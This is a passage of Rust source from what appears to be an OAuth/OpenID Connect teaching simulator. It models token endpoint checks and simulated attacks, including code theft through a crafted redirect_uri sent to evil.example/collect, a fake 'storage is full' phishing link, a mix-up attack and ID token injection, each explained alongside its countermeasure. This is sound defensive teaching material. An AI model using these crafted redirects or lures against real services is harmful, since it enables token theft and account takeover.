            FRONT => ("POST /token", "The app in the browser redeems the code with a cross-origin request (the server allows its origin with CORS). A public client has no secret: its PKCE verifier is what proves this request comes from whoever started the flow.".to_string()),
            _ => ("POST /token", format!("The client's back end redeems the code directly with the server, not through the browser, so the tokens never pass through the browser or its history. It proves who it is with {} (RFC 6749 section 2.3).", auth.name())),
        };
        let secret = self.token_post(from, "/token", pairs, auth, label, why, vec![SpecRef::rfc(6749, "4.1.3", "Access Token Request"), SpecRef::rfc(7636, "4.5", "Client Sends the Authorization Code and the Code Verifier to the Token Endpoint")]);
        self.check_token_request(code, verifier, redirect_uri, auth, &secret)
    }

    /// A form POST to one of the server's endpoints with the client's authentication added as
    /// `auth` says; returns the secret sent (for the server's check).
    #[allow(clippy::too_many_arguments)]
    fn token_post(&mut self, from: usize, path: &str, mut pairs: Vec<(&str, String)>, auth: ClientAuth, label: &str, why: String, spec: Vec<SpecRef>) -> String {
        let secret = if self.s.wrong_secret { format!("{}x", self.s.client_secret) } else { self.s.client_secret.clone() };
        let token_url = format!("{ISSUER}/token");
        match auth {
            ClientAuth::ClientSecretPost => {
                pairs.push(("client_id", CLIENT_ID.into()));
                pairs.push(("client_secret", secret.clone()));
            }
            ClientAuth::None => pairs.push(("client_id", CLIENT_ID.into())),
            ClientAuth::PrivateKeyJwt => {
                let iat = self.clock();
                let jti = self.random(12);
                let assertion = match client_key(self.s.wrong_secret) {
                    Some(k) => make_token(&json!({"alg": "ES256", "typ": "JWT", "kid": CLIENT_KID}).to_string(), &json!({"iss": CLIENT_ID, "sub": CLIENT_ID, "aud": token_url, "jti": jti, "iat": iat, "exp": iat + 60}).to_string(), Alg::ES256, Some(&k)),
                    None => String::new(),
                };
                pairs.push(("client_assertion_type", "urn:ietf:params:oauth:client-assertion-type:jwt-bearer".into()));
                pairs.push(("client_assertion", assertion));
            }
            ClientAuth::ClientSecretBasic => {}
        }
        let borrowed: Vec<(&str, &str)> = pairs.iter().map(|(n, v)| (*n, v.as_str())).collect();
        let mut m = Message::request("POST", path).header("Host", AS_HOST);
        if auth == ClientAuth::ClientSecretBasic {
            m = m.header("Authorization", &http::basic(CLIENT_ID, &secret));
        }
        if from == FRONT {
            m = m.header("Origin", &format!("https://{APP_HOST}"));
        }
        let m = m.form(&borrowed);
        self.send(from, AS, label, &m, why, spec);
        secret
    }

    /// The server's check of the client's authentication (RFC 6749 section 3.2.1): a
    /// confidential client must authenticate; a public one sends only its id. Adds the field,
    /// and answers whether it passed.
    fn client_authenticated(&self, auth: ClientAuth, secret: &str, fields: &mut Vec<Field>) -> bool {
        let ok = match auth {
            ClientAuth::ClientSecretBasic | ClientAuth::ClientSecretPost => secret == self.s.client_secret,
            ClientAuth::PrivateKeyJwt => !self.s.wrong_secret,
            ClientAuth::None => self.s.client == ClientKind::Spa,
        };
        let note = match auth {
            ClientAuth::None if ok => "a public client: only its client_id, which anyone can send".to_string(),
            ClientAuth::None => "only a client_id, but this client is registered as confidential: it must authenticate ✗".to_string(),
            ClientAuth::PrivateKeyJwt => format!("client_assertion signed with {}", if ok { "the key in the client's registered JWKS ✓" } else { "a key the client never registered ✗" }),
            _ => format!("secret {}", if ok { "matches ✓" } else { "does not match ✗" }),
        };
        fields.push(Self::field("client authentication", auth.name(), &note));
        ok
    }

    fn check_token_request(&mut self, code: &str, verifier: Option<&str>, redirect_uri: &str, auth: ClientAuth, secret: &str) -> TokenAnswer {
        let mut fields = Vec::new();
        let refuse = |run: &mut Run, mut fields: Vec<Field>, status: u16, error: &'static str, description: String, spec: Vec<SpecRef>, why: String| {
            fields.push(Self::field("result", format!("✗ {error}"), ""));
            run.local(AS, &format!("refused: {error}"), fields, why, spec);
            TokenAnswer::Error { status, error, description }
        };
        // 1. Client authentication (RFC 6749 section 3.2.1).
        let client_ok = self.client_authenticated(auth, secret, &mut fields);
        if !client_ok {
            return refuse(self, fields, 401, "invalid_client", "Client authentication failed".into(), vec![SpecRef::rfc(6749, "5.2", "Error Response")], Self::INVALID_CLIENT.into());
        }
        // 2. The code: known, issued to this client, unused, unexpired.
        let Some(c) = self.codes.get(code).cloned() else {
            return refuse(self, fields, 400, "invalid_grant", "The authorization code is not valid".into(), vec![SpecRef::rfc(6749, "5.2", "Error Response")], "The server issued no such code.".into());
        };
        fields.push(Self::field("code", code, &format!("issued to {} for {}", c.client_id, c.user.0)));
        if c.used {
            let revoked = c.tokens.clone();
            self.revoked.extend(revoked.iter().cloned());
            self.changed();
            return refuse(self, fields, 400, "invalid_grant", "The authorization code has already been used".into(), vec![SpecRef::rfc(6749, "4.1.2", "Authorization Response"), SpecRef::rfc(9700, "4.5", "Authorization Code Injection")], format!("This code was redeemed before. A code is single use, and a second use means it leaked: the server refuses, and revokes the {} token(s) already issued for it (RFC 6749 section 4.1.2: it SHOULD revoke them). Whoever got the first tokens, the legitimate client or an attacker, loses them.", revoked.len()));
        }
        let age = self.clock() - c.issued;
        fields.push(Self::field("code age", format!("{age} s of {} s", self.s.code_ttl_s), ""));
        if age > self.s.code_ttl_s as i64 {
            return refuse(self, fields, 400, "invalid_grant", "The authorization code has expired".into(), vec![SpecRef::rfc(6749, "4.1.2", "Authorization Response")], "The code is older than its lifetime: a code should live a minute at most, so a leaked one is soon useless.".into());
        }
        // 3. redirect_uri identical to the authorization request's (RFC 6749 section 4.1.3).
        let same = redirect_uri == c.redirect_uri;
        fields.push(Self::field("redirect_uri", redirect_uri, if same { "✓ the same as in the authorization request" } else { "✗ not the one in the authorization request" }));
        if !same {
            return refuse(self, fields, 400, "invalid_grant", "redirect_uri does not match".into(), vec![SpecRef::rfc(6749, "4.1.3", "Access Token Request")], "The redirect_uri must be the one the code was sent to.".into());
        }
        // 4. PKCE (RFC 7636 section 4.6; RFC 9700 section 4.8.2 refuses a verifier without a challenge).
        let issued = c.challenge.as_ref().map(|(m, ch)| (*m, ch.as_str()));
        let pkce_result = pkce::check(issued, verifier);
        let pkce_note = match (&c.challenge, verifier) {
            (None, None) => "no challenge with the code, no verifier: nothing to check".to_string(),
            (Some((m, _)), Some(v)) => format!("{}({}…) = challenge? {}", if *m == Method::S256 { "S256" } else { "plain" }, v.chars().take(10).collect::<String>(), if pkce_result.is_ok() { "✓" } else { "✗" }),
            (Some(_), None) => "the code has a challenge, the request no verifier ✗".into(),
            (None, Some(_)) => "a verifier for a code issued without a challenge ✗".into(),
        };
        fields.push(Self::field("PKCE", pkce_note, ""));
        if let Err(e) = pkce_result {
            return refuse(self, fields, 400, "invalid_grant", format!("PKCE verification failed: {e}"), vec![SpecRef::rfc(7636, "4.6", "Server Verifies code_verifier before Returning the Tokens"), SpecRef::rfc(9700, "4.8.2", "Countermeasures")], format!("PKCE check failed: {e}. Only the party that made the challenge knows the verifier. Whoever holds just the code cannot redeem it."));
        }
        // Issue the tokens.
        let family = (self.s.flow == Flow::Refresh).then(|| self.next_family());
        let (access, jti, id_token, refresh) = self.issue(c.user, &c.scope, c.nonce.as_deref(), c.issued - 9, family);
        if let Some(code) = self.codes.get_mut(code) {
            code.used = true;
            code.tokens.push(jti);
        }
        fields.push(Self::field("result", "✓ tokens issued", ""));
        self.local(AS, "code redeemed", fields, "Every check passes in order: the client's credentials, the code (known, issued to this client, unused, fresh), the redirect_uri, and PKCE. The code is marked used, and the server signs the tokens.".into(), vec![SpecRef::rfc(6749, "4.1.3", "Access Token Request"), SpecRef::rfc(7636, "4.6", "Server Verifies code_verifier before Returning the Tokens")]);
        self.changed();
        TokenAnswer::Tokens { access, id_token, refresh }
    }

    const INVALID_CLIENT: &'static str = "The client's credentials are missing or wrong, so nothing else is looked at: the server answers 401 invalid_client (with WWW-Authenticate for Basic). Without its credentials a confidential client's code or refresh token is useless to a thief.";

    fn next_family(&mut self) -> u32 {
        self.serial += 1;
        self.serial
    }

    /// Signs an access token (and an ID token when the scope has openid) for `user`, and makes
    /// a refresh token in `family` when there is one. Returns the access token, its jti, the
    /// ID token and the refresh token.
    fn issue(&mut self, user: (&'static str, &'static str), scope: &str, nonce: Option<&str>, auth_time: i64, family: Option<u32>) -> (String, String, Option<String>, Option<String>) {
        let iat = self.clock();
        self.serial += 1;
        let jti = format!("at-{}", self.serial);
        let client_only = user.0 == CLIENT_ID;
        let access = self.sign(json!({"alg": self.alg.name(), "typ": "at+jwt", "kid": self.kid}), json!({"iss": ISSUER, "sub": user.1, "aud": API, "client_id": CLIENT_ID, "scope": scope, "jti": jti, "iat": iat, "exp": iat + self.s.access_ttl_s as i64}));
        self.access.insert(jti.clone(), (family, iat + self.s.access_ttl_s as i64));
        let openid = !client_only && scope.split(' ').any(|s| s == "openid");
        let id_token = openid.then(|| {
            let mut claims = json!({"iss": ISSUER, "sub": user.1, "aud": CLIENT_ID, "iat": iat, "exp": iat + self.s.id_token_ttl_s as i64, "auth_time": auth_time, "at_hash": half_hash(&access)});
            if let (Some(n), Some(o)) = (nonce, claims.as_object_mut()) {
                o.insert("nonce".into(), Value::String(n.to_string()));
            }
            self.sign(json!({"alg": self.alg.name(), "typ": "JWT", "kid": self.kid}), claims)
        });
        let refresh = family.map(|family| {
            let token = self.random(32);
            self.refresh.insert(token.clone(), RefreshRecord { family, retired: false, user, scope: scope.to_string() });
            token
        });
        (access, jti, id_token, refresh)
    }

    fn token_response(&mut self, to: usize, answer: &TokenAnswer) {
        match answer {
            TokenAnswer::Tokens { access, id_token, refresh } => {
                let mut body = json!({"access_token": access, "token_type": "Bearer", "expires_in": self.s.access_ttl_s, "scope": self.s.scope});
                if let (Some(t), Some(o)) = (id_token, body.as_object_mut()) {
                    o.insert("id_token".into(), Value::String(t.clone()));
                }
                if let (Some(t), Some(o)) = (refresh, body.as_object_mut()) {
                    o.insert("refresh_token".into(), Value::String(t.clone()));
                }
                let m = Message::response(200, "OK").header("Cache-Control", "no-store").body("application/json", body.to_string());
                self.send(AS, to, "200 tokens", &m, format!("The access token is a JWT for the API (RFC 9068, typ at+jwt), valid {} s.{} Cache-Control: no-store keeps tokens out of every cache.", self.s.access_ttl_s, if id_token.is_some() { " The ID token is a JWT for the client itself: who signed in, when, and how." } else { " No ID token: without the openid scope this is plain OAuth, which grants access but says nothing reliable about who the user is." }), vec![SpecRef::rfc(6749, "5.1", "Successful Response"), oidc("3.1.3.3", "TokenResponse", "Successful Token Response")]);
            }
            TokenAnswer::Error { status, error, description } => {
                let body = json!({"error": error, "error_description": description}).to_string();
                let mut m = Message::response(*status, if *status == 401 { "Unauthorized" } else { "Bad Request" }).header("Cache-Control", "no-store");
                if *status == 401 {
                    m = m.header("WWW-Authenticate", "Basic realm=\"id.example.com\"");
                }
                let m = m.body("application/json", body);
                self.send(AS, to, &format!("{status} {error}"), &m, format!("The error in JSON, as RFC 6749 section 5.2 defines it: {error}."), vec![SpecRef::rfc(6749, "5.2", "Error Response")]);
            }
        }
    }

    /// OpenID Connect Core section 3.1.3.7, step by step. Returns the subject when valid.
    fn validate_id_token(&mut self, browser: usize, id_token: &str, access: &str) -> Option<String> {
        let lane = self.client_lane();
        let mut fields = Vec::new();
        let mut ok = true;
        let mut check = |fields: &mut Vec<Field>, name: &str, pass: bool, note: String| {
            fields.push(Self::field(name, if pass { "✓" } else { "✗" }, &note));
            ok &= pass;
        };
        let Ok(Decoded::Jws(j)) = decode(id_token) else {
            self.local(lane, "ID token unreadable", vec![], "The ID token is not a JWS.".into(), vec![oidc("3.1.3.7", "IDTokenValidation", "ID Token Validation")]);
            return None;
        };
        let claims = match &j.payload {
            Payload::Json(Value::Object(o)) => o.clone(),
            _ => serde_json::Map::new(),
        };
        let kid = j.header.get("kid").and_then(Value::as_str).unwrap_or("");
        let jwks = self.jwks();
        let signature_ok = match (keys::from_jwks(&jwks, Some(kid)), j.alg) {
            (Ok((key, _)), Some(alg)) if alg == self.alg => sign::verify(alg, &key, j.signing_input().as_bytes(), &j.signature).is_ok(),
            _ => false,
        };
        check(&mut fields, "6. signature", signature_ok, format!("{} with the key {kid} from the server's JWKS", j.alg_name));
        let iss = claims.get("iss").and_then(Value::as_str).unwrap_or("");
        check(&mut fields, "2. iss", iss == ISSUER, format!("{iss} is the issuer in the discovery document"));
        let aud_ok = match claims.get("aud") {
            Some(Value::String(a)) => a == CLIENT_ID,
            Some(Value::Array(a)) => a.iter().any(|x| x.as_str() == Some(CLIENT_ID)),
            _ => false,
        };
        if self.s.check_aud {
            check(&mut fields, "3. aud", aud_ok, format!("contains this client's id, {CLIENT_ID}"));
        } else {
            fields.push(Self::field("3. aud", "not checked", if aud_ok { "(it is this client's id)" } else { "(it is another client's id: a token meant for someone else)" }));
        }
        let azp = claims.get("azp").and_then(Value::as_str);
        check(&mut fields, "4–5. azp", azp.is_none_or(|a| a == CLIENT_ID), "one audience, so azp is not needed".into());
        let now = self.clock();
        let exp = claims.get("exp").and_then(Value::as_i64).unwrap_or(0);
        check(&mut fields, "9. exp", now < exp, format!("expires in {} s", exp - now));
        let iat = claims.get("iat").and_then(Value::as_i64).unwrap_or(0);
        check(&mut fields, "10. iat", (now - 300..=now + 60).contains(&iat), format!("issued {} s ago (the client accepts up to 300)", now - iat));
        let expected_nonce = self.pending.get(&browser).and_then(|p| p.nonce.clone());
        let nonce = claims.get("nonce").and_then(Value::as_str).map(String::from);
        match &expected_nonce {
            Some(n) => check(&mut fields, "11. nonce", nonce.as_ref() == Some(n), "the nonce this browser's session sent".into()),
            None => fields.push(Self::field("11. nonce", "not sent", "the client cannot tell this ID token from one replayed from another sign-in")),
        }
        let at_hash = claims.get("at_hash").and_then(Value::as_str).unwrap_or("");
        if access.is_empty() {
            fields.push(Self::field("at_hash", "no access token with it", "nothing to compare"));
        } else {
            check(&mut fields, "at_hash", at_hash == half_hash(access), "left half of SHA-256 of the access token, base64url (section 3.1.3.8)".into());
        }
        fields.push(Self::field("c_hash", "not used here", "it binds a code to an ID token in the hybrid flow (response_type code id_token), where both arrive in the redirect; here the code is redeemed directly"));
        let sub = claims.get("sub").and_then(Value::as_str).unwrap_or("").to_string();
        if ok {
            self.local(lane, "ID token valid", fields, format!("The client checks the ID token as OpenID Connect Core section 3.1.3.7 lists (the numbers are its steps): the signature with the server's published key, then who issued it, for whom, when, and the nonce. It now knows, from the server, that the person is sub {sub}. An access token could not have told it that."), vec![oidc("3.1.3.7", "IDTokenValidation", "ID Token Validation"), oidc("3.1.3.8", "CodeFlowTokenValidation", "Access Token Validation")]);
            Some(sub)
        } else {
            self.local(lane, "ID token refused", fields, "A check failed, so the client does not sign anyone in.".into(), vec![oidc("3.1.3.7", "IDTokenValidation", "ID Token Validation")]);
            None
        }
    }

    /// The redirect_uri the attacker writes, shaped to pass the server's rule against the first
    /// registered URI.
    fn crafted_redirect(&self) -> String {
        let registered = self.s.redirect_uris.first().cloned().unwrap_or_default();
        match (self.s.matching, redirect::parse(&registered)) {
            (redirect::Matching::Subdomain, Ok(u)) => format!("{}://uploads.{}{}/u/mallory/steal.html", u.scheme, u.host, u.port.map(|p| format!(":{p}")).unwrap_or_default()),
            _ => format!("{}/../open?to=https://evil.example/collect", registered.trim_end_matches('/')),
        }
    }

    /// Code theft through a redirect_uri the server matches too loosely (RFC 9700 section 4.1).
    fn open_redirect(&mut self) {
        let lane = self.client_lane();
        // The attacker starts a genuine sign-in in their own browser, for its state and PKCE.
        if self.s.client == ClientKind::Web {
            let m = Message::request("GET", "/login").header("Host", APP_HOST);
            self.send(ATTACKER, BACK, "GET /login (attacker)", &m, "The attacker starts a sign-in at the photo app in their own browser, to get a genuine authorization request tied to their own session.".into(), vec![SpecRef::rfc(9700, "4.1.1", "Redirect URI Validation Attacks on Authorization Code Grant")]);
        }
        let url = self.begin(ATTACKER);
        let crafted = self.crafted_redirect();
        let registered = http::encode_form(&[("redirect_uri", self.s.redirect_uri.as_str())]);
        let replaced = http::encode_form(&[("redirect_uri", crafted.as_str())]);
        let link = url.replacen(&registered, &replaced, 1);
        let page = format!("<!doctype html><title>Your photo-app storage is full</title><a href=\"{}\">Sign in to photo-app to keep your photos</a>", link.replace('&', "&amp;"));
        let m = Message::response(200, "OK").body("text/html; charset=utf-8", page);
        self.send(ATTACKER, BROWSER, "200 page with a sign-in link", &m, format!("The attacker swaps the redirect_uri in that request for {crafted} and sends the link to Alice. Everything else is genuine: the real server, the real app's name, the attacker's own state{}.", if self.s.pkce != Pkce::Off { " and PKCE challenge (whose verifier the attacker holds)" } else { "" }), vec![SpecRef::rfc(9700, "4.1.1", "Redirect URI Validation Attacks on Authorization Code Grant")]);
        let Ok(query) = self.authorize_request(BROWSER, &link) else {
            self.t.summary.push("Exact matching refused the attacker's redirect_uri at the authorization server: Alice saw an error page, and no code was issued.".into());
            return;
        };
        let location = self.login_and_consent(BROWSER, ALICE, &query, true);
        let code = http::form_value(location.split_once('?').map(|q| q.1).unwrap_or(""), "code").unwrap_or_default();
        let resolved = redirect::parse(location.split('?').next().unwrap_or("")).map(|u| u.resolved()).unwrap_or_default();
        let query_part = location.split_once('?').map(|q| q.1).unwrap_or("");
        if self.s.matching == redirect::Matching::Subdomain {
            let m = Message::request("GET", &format!("{}?{query_part}", redirect::parse(&crafted).map(|u| u.resolved_path()).unwrap_or_default())).header("Host", &redirect::parse(&crafted).map(|u| u.host).unwrap_or_default());
            self.send(BROWSER, ATTACKER, "GET the attacker's page with the code", &m, "The browser follows the redirect to a page the attacker uploaded to the app's user-content subdomain. Its script reads the code from the address and sends it home.".into(), vec![SpecRef::rfc(9700, "4.1.1", "Redirect URI Validation Attacks on Authorization Code Grant")]);
        } else {
            let path = resolved.split_once(APP_HOST).map(|p| p.1.split('?').next().unwrap_or("/").to_string()).unwrap_or_else(|| "/open".into());
            let m = Message::request("GET", &format!("{path}?{query_part}")).header("Host", APP_HOST);
            self.send(BROWSER, lane, "GET /open (the redirector)", &m, "The browser resolves the ../ in the path: the address is the app's own open redirector, /open, not its callback. The code and state ride along in the query.".into(), vec![SpecRef::rfc(9700, "4.11", "Open Redirection")]);
            // The redirector passes on every parameter but its own `to`.
            let passed: Vec<(String, String)> = http::decode_form(query_part).into_iter().filter(|(n, _)| n != "to").collect();
            let passed = http::encode_form(&passed.iter().map(|(n, v)| (n.as_str(), v.as_str())).collect::<Vec<_>>());
            let m = Message::response(302, "Found").header("Location", &format!("https://evil.example/collect?{passed}"));
            self.send(lane, BROWSER, "302 to evil.example", &m, "The redirector sends the browser wherever `to` says, passing its query on, as many do.".into(), vec![SpecRef::rfc(9700, "4.11.1", "Client as Open Redirector")]);
            let m = Message::request("GET", &format!("/collect?{passed}")).header("Host", "evil.example");
            self.send(BROWSER, ATTACKER, "GET /collect with the code", &m, "Alice's code arrives at the attacker's server.".into(), vec![SpecRef::rfc(9700, "4.1.1", "Redirect URI Validation Attacks on Authorization Code Grant")]);
        }
        let verifier = self.pending.get(&ATTACKER).and_then(|p| p.verifier.clone());
        if self.s.client == ClientKind::Spa {
            let answer = self.token_request(ATTACKER, &code, verifier.as_deref(), &crafted, false);
            self.token_response(ATTACKER, &answer);
            if let TokenAnswer::Tokens { access, .. } = &answer {
                let access = access.clone();
                self.api_call(ATTACKER, &access);
                self.t.summary.push(format!("The server matched the redirect_uri by {}, so Alice's code went to the attacker, who redeemed it: a public client has no secret, and PKCE does not help when the attacker made the challenge. Only exact matching (RFC 9700 section 4.1.3) stops this.", self.s.matching.describe()));
            } else {
                self.t.summary.push("The attacker had Alice's code but could not redeem it.".into());
            }
        } else {
            let callback = format!("{}?{query_part}", self.s.redirect_uri);
            if let Some(c) = self.callback(ATTACKER, &callback, "The attacker, holding Alice's code, opens the app's real callback in their own browser, whose session matches the state.".into()) {
                let answer = self.token_request(lane, &c, verifier.as_deref(), &self.s.redirect_uri.clone(), true);
                self.token_response(lane, &answer);
                self.t.summary.push(if matches!(answer, TokenAnswer::Tokens { .. }) { "The attacker's session got Alice's tokens.".into() } else { "The code reached the attacker, but the attack failed at the token endpoint: the client sends its registered redirect_uri, and the server requires the one the code was issued for (RFC 6749 section 4.1.3). A public client, which the attacker can impersonate, has no such protection; exact matching protects both.".into() });
            }
        }
    }

    /// A mix-up (RFC 9700 section 4.4): the client also works with the attacker's authorization
    /// server; Alice chooses it, it forwards her to the honest server with the client's request,
    /// and the honest code comes back to a client that believes it came from the attacker's.
    fn mix_up(&mut self) {
        let lane = self.client_lane();
        const EVIL: &str = "https://id.evil.example";
        if self.s.client == ClientKind::Web {
            let m = Message::request("GET", "/login?provider=evil-id").header("Host", APP_HOST);
            self.send(BROWSER, BACK, "GET /login (Evil ID)", &m, "The photo app offers two sign-in providers, and one of them, Evil ID, is run by the attacker (or was compromised). Alice picks it, or a link picked it for her.".into(), vec![SpecRef::rfc(9700, "4.4", "Mix-Up Attacks")]);
        }
        let url = self.begin(BROWSER);
        if let Some(p) = self.pending.get_mut(&BROWSER) {
            p.issuer = EVIL.into();
        }
        let evil_url = url.replacen(&format!("{ISSUER}/authorize"), &format!("{EVIL}/authorize"), 1);
        let target = evil_url.strip_prefix(EVIL).unwrap_or(&evil_url).to_string();
        self.local(lane, "remembers: Evil ID", vec![Self::field("provider", EVIL, "kept in the session with state and PKCE")], "The client records which server this flow is with, so it knows where to send the code.".into(), vec![SpecRef::rfc(9207, "2.4", "Validating the Issuer Identifier")]);
        let m = Message::request("GET", &target).header("Host", "id.evil.example");
        self.send(BROWSER, ATTACKER, "GET /authorize (at Evil ID)", &m, "The browser goes to the attacker's authorization server.".into(), vec![SpecRef::rfc(9700, "4.4.1", "Attack Description")]);
        let m = Message::response(302, "Found").header("Location", &url);
        self.send(ATTACKER, BROWSER, "302 to the honest server", &m, "The attacker's server does not sign Alice in. It sends her browser to the honest server with the very same request (the client's id there, its callback, state and PKCE challenge), as if the photo app had asked.".into(), vec![SpecRef::rfc(9700, "4.4.1", "Attack Description")]);
        let Ok(query) = self.authorize_request(BROWSER, &url) else { return };
        let location = self.login_and_consent(BROWSER, ALICE, &query, true);
        let code = http::form_value(location.split_once('?').map(|q| q.1).unwrap_or(""), "code").unwrap_or_default();
        let Some(code) = self.callback(BROWSER, &location, "The browser returns to the photo app's callback with the honest server's code.".into()).map(|_| code) else {
            self.t.summary.push("The iss parameter named the honest server, while the flow had started with Evil ID: the client refused, and the code went nowhere (RFC 9207).".into());
            return;
        };
        let verifier = self.pending.get(&BROWSER).and_then(|p| p.verifier.clone());
        let mut pairs: Vec<(&str, String)> = vec![("grant_type", "authorization_code".into()), ("code", code.clone()), ("redirect_uri", self.s.redirect_uri.clone()), ("client_id", "photo-app-at-evil".into())];
        if let Some(v) = &verifier {
            pairs.push(("code_verifier", v.clone()));
        }
        let borrowed: Vec<(&str, &str)> = pairs.iter().map(|(n, v)| (*n, v.as_str())).collect();
        let m = Message::request("POST", "/token").header("Host", "id.evil.example").form(&borrowed);
        self.send(lane, ATTACKER, "POST /token (to Evil ID)", &m, "Believing the code came from Evil ID, the client redeems it there, handing the attacker the honest server's code and the PKCE verifier with it.".into(), vec![SpecRef::rfc(9700, "4.4.1", "Attack Description")]);
        let answer = self.token_request(ATTACKER, &code, verifier.as_deref(), &self.s.redirect_uri.clone(), false);
        self.token_response(ATTACKER, &answer);
        if let TokenAnswer::Tokens { access, .. } = &answer {
            let access = access.clone();
            self.api_call(ATTACKER, &access);
            self.t.summary.push("Mix-up: the client sent the honest server's code and its PKCE verifier to the attacker's server, and the attacker redeemed them as the public client. RFC 9207's iss parameter, checked against the server the flow began with, stops this.".into());
        } else {
            self.t.summary.push("The attacker got the code but could not redeem it here: a confidential client's code needs its credentials at the honest server.".into());
        }
    }

    /// The attacker presents an ID token to the client's back end, which signs a browser in
    /// from an ID token posted by a front end (as "one tap" sign-in buttons do): one issued to
    /// another app, or Alice's own from earlier.
    fn id_token_injection(&mut self, alices: Option<String>) {
        let lane = self.client_lane();
        self.at += 30 * 1_000_000;
        let m = Message::request("GET", "/login").header("Host", APP_HOST);
        self.send(ATTACKER, lane, "GET /login (attacker)", &m, "The attacker opens the photo app in their own browser, which starts a sign-in with a fresh session.".into(), vec![oidc("3.1.2.1", "AuthRequest", "Authentication Request")]);
        let _ = self.begin(ATTACKER);
        let theirs = self.pending.get(&ATTACKER).and_then(|p| p.nonce.clone());
        let token = if self.s.attack == Attack::WrongAudience {
            let iat = self.clock();
            let mut claims = json!({"iss": ISSUER, "sub": ALICE.1, "aud": "quiz-app", "iat": iat, "exp": iat + self.s.id_token_ttl_s as i64, "auth_time": iat - 20});
            if let (Some(n), Some(o)) = (&theirs, claims.as_object_mut()) {
                o.insert("nonce".into(), Value::String(n.clone()));
            }
            let t = self.sign(json!({"alg": self.alg.name(), "typ": "JWT", "kid": self.kid}), claims);
            self.local(ATTACKER, "gets Alice's ID token for quiz-app", vec![Self::field("id_token", t.clone(), "aud quiz-app, sub alice, the nonce of the attacker's own session")], "The attacker also runs quiz-app, a client of the same server. Alice signed in to it once, and quiz-app asked for the nonce the attacker's photo-app session expects. The server signed a perfectly valid ID token: for quiz-app.".into(), vec![oidc("2", "IDToken", "ID Token")]);
            t
        } else {
            let t = alices.unwrap_or_default();
            self.local(ATTACKER, "has Alice's old ID token", vec![Self::field("id_token", t.clone(), "from a log or a shared device; still within its lifetime")], "Alice's ID token from her sign-in leaked into a log. It is genuine, signed by the server, and for this client.".into(), vec![SpecRef::rfc(9700, "4.5.3", "Countermeasures")]);
            t
        };
        let m = Message::request("POST", "/session").header("Host", APP_HOST).header("Origin", &format!("https://{APP_HOST}")).form(&[("id_token", &token)]);
        self.send(ATTACKER, lane, "POST /session with an ID token", &m, "The attacker posts the ID token to the endpoint where the app's front end hands its ID token to the back end.".into(), vec![oidc("3.1.3.7", "IDTokenValidation", "ID Token Validation")]);
        let access = String::new();
        let accepted = self.validate_id_token(ATTACKER, &token, &access).is_some();
        if accepted {
            self.signed_in.insert(ATTACKER, ALICE.0);
            let m = Message::response(302, "Found").header("Location", "/photos").header("Set-Cookie", "sid=e09d…; Path=/; Secure; HttpOnly; SameSite=Lax");
            self.send(lane, ATTACKER, "302 attacker signed in as alice", &m, "The client signed the attacker's browser in as Alice.".into(), vec![oidc("3.1.3.7", "IDTokenValidation", "ID Token Validation")]);
            self.screen(ATTACKER, &format!("{APP_HOST}/photos"), "photo-app", vec!["Signed in as alice".into(), "Alice's photos: Harbour at dawn, Snow on the ridge".into()], &[], &["Sign out"], false);
            self.t.summary.push(if self.s.attack == Attack::WrongAudience { "The client accepted an ID token meant for another app, so whoever runs any app at the same server can sign in here as its users. Checking aud is what stops it.".into() } else { "The client accepted a replayed ID token: without a nonce it cannot tell a token from this sign-in from an old one. Sending and checking nonce is what stops it.".into() });
        } else {
            let m = Message::response(401, "Unauthorized").body("text/html; charset=utf-8", "<!doctype html><title>Sign-in failed</title><p>That sign-in is not valid here.");
            self.send(lane, ATTACKER, "401 refused", &m, "The attacker is not signed in.".into(), vec![oidc("3.1.3.7", "IDTokenValidation", "ID Token Validation")]);
            self.screen(ATTACKER, &format!("{APP_HOST}/session"), "Sign-in failed", vec!["That sign-in is not valid here.".into()], &[], &[], true);
            self.t.summary.push(if self.s.attack == Attack::WrongAudience { "The aud check refused the ID token: it was issued to quiz-app, not to this client.".into() } else { "The nonce check refused the replayed ID token: it carries the nonce of Alice's earlier sign-in, not of this session's.".into() });
        }
        self.changed();
    }

    /// The photo API called with the access token: the resource server checks the JWT and its scope.
    fn api_call(&mut self, from: usize, access: &str) -> bool {
        let m = Message::request("GET", "/v1/photos").header("Host", API_HOST).header("Authorization", &format!("Bearer {access}"));
        self.send(from, RS, "GET /v1/photos", &m, "The access token goes to the API in the Authorization header (never in the URL, which ends up in logs).".into(), vec![SpecRef::rfc(6750, "2.1", "Authorization Request Header Field")]);
        let (valid, scope, jti) = match decode(access) {
            Ok(Decoded::Jws(j)) => {
                let key_ok = keys::from_jwks(&self.jwks(), j.header.get("kid").and_then(Value::as_str)).ok().is_some_and(|(k, _)| j.alg == Some(self.alg) && sign::verify(self.alg, &k, j.signing_input().as_bytes(), &j.signature).is_ok());
                let claims = match &j.payload {
                    Payload::Json(Value::Object(o)) => o.clone(),
                    _ => serde_json::Map::new(),
                };
                let aud_ok = claims.get("aud").and_then(Value::as_str) == Some(API);
                let exp_ok = claims.get("exp").and_then(Value::as_i64).is_some_and(|e| e > self.clock());
                (key_ok && aud_ok && exp_ok, claims.get("scope").and_then(Value::as_str).unwrap_or("").to_string(), claims.get("jti").and_then(Value::as_str).unwrap_or("").to_string())
            }
            _ => (false, String::new(), String::new()),
        };
        let has_scope = scope.split(' ').any(|s| s == API_SCOPE);
        let fields = vec![Self::field("signature, iss, aud, exp", if valid { "✓" } else { "✗" }, "checked locally with the server's JWKS (RFC 9068 section 4)"), Self::field("scope", scope.clone(), if has_scope { "✓ has photos.read" } else { "✗ lacks photos.read" })];
        let revoked = self.revoked.contains(&jti);
        self.local(RS, if valid && has_scope { "token accepted" } else { "token refused" }, fields, if revoked && valid { "The token was revoked at the server, but this API checks JWTs locally and cannot know that until it expires. An API that must see revocation at once asks the server (token introspection, RFC 7662) or keeps access tokens short.".into() } else { "The API checks the token itself: signature with the server's published key, issuer, audience (this API), expiry, and the scope this endpoint needs.".into() }, vec![SpecRef::rfc(9068, "4", "Validating JWT Access Tokens")]);
        if !valid {
            let m = Message::response(401, "Unauthorized").header("WWW-Authenticate", "Bearer error=\"invalid_token\"");
            self.send(RS, from, "401 invalid_token", &m, "The token is not valid here.".into(), vec![SpecRef::rfc(6750, "3.1", "Error Codes")]);
            false
        } else if !has_scope {
            let m = Message::response(403, "Forbidden").header("WWW-Authenticate", &format!("Bearer error=\"insufficient_scope\", scope=\"{API_SCOPE}\""));
